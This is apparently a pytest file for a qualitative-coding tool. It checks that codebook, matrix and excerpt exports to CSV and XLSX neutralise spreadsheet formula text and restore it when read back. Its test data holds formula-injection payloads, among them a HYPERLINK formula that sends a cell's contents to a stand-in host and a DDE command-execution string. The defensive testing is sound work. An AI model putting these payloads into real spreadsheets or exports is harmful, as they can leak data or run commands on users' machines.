"""Text that a spreadsheet would run as a formula goes out as text, and comes back unchanged."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from qcode.core.codebook import Code, Codebook
from qcode.core.guids import new_guid
from qcode.core.spreadsheet_cells import neutralised, restored
from qcode.io.codebook_table import read_codebook_csv, write_codebook_csv
from qcode.io.codebook_xlsx import read_codebook_xlsx, write_codebook_xlsx

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]


@pytest.mark.parametrize("text", [*HOSTILE, "\tTab", "\rReturn"])
def test_formula_text_is_neutralised_and_restored(text):
    assert neutralised(text) == "'" + text
    assert restored(neutralised(text)) == text


@pytest.mark.parametrize("value", ["Obstacles", "'quoted already", 3, -2.5, None, ""])
def test_other_values_pass_unchanged(value):
    assert neutralised(value) == value


def codebook() -> Codebook:
    return Codebook(title="Hostile", codes=tuple(Code(new_guid(), name) for name in HOSTILE))


def test_codebook_csv_and_xlsx_write_text_and_read_it_back(tmp_path: Path):
    book = codebook()
    path = tmp_path / "codebook.csv"
    write_codebook_csv(book, path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    read, _ = read_codebook_csv(path)
    assert [c.name for c in read.codes] == HOSTILE
    workbook = tmp_path / "codebook.xlsx"
    write_codebook_xlsx(book, workbook)
    sheet = load_workbook(workbook).active
    values = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert not any(v.startswith(("=", "+", "-", "@")) for v in values)
    read, _ = read_codebook_xlsx(workbook)
    assert [c.name for c in read.codes] == HOSTILE


def test_matrix_and_excerpt_exports_write_text(tmp_path: Path, sqlite_project):
    from qcode.services.codebook_edits import add_code
    from qcode.services.coding import code_span
    from qcode.services.excerpts import export_excerpts, export_matrix
    from qcode.services.importing import import_paths
    from qcode.services.matrices import MatrixRequest
    from tests.factories import ris_record, write_ris

    records = [ris_record("Kerja sama", "=1+1 kerja sama pemerintah dan LSM berjalan lambat.")]
    import_paths(sqlite_project, [write_ris(tmp_path / "a.ris", records)], coder="ayu")
    add_code(sqlite_project, HOSTILE[0], coder="ayu")
    code_span(sqlite_project, "1", HOSTILE[0], 0, 10, coder="ayu")
    for out in (tmp_path / "m.csv", tmp_path / "e.csv"):
        if out.stem == "m":
            export_matrix(sqlite_project, MatrixRequest(), out)
        else:
            export_excerpts(sqlite_project, out)
        with out.open(encoding="utf-8-sig", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert any(HOSTILE[0] in cell for cell in cells)
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    for out in (tmp_path / "m.xlsx", tmp_path / "e.xlsx"):
        if out.stem == "m":
            export_matrix(sqlite_project, MatrixRequest(), out)
        else:
            export_excerpts(sqlite_project, out)
        book = load_workbook(out)
        values = [
            c.value
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for c in row
            if isinstance(c.value, str)
        ]
        assert any(HOSTILE[0] in v for v in values)
        assert not any(v.startswith(("=", "+", "@")) for v in values)
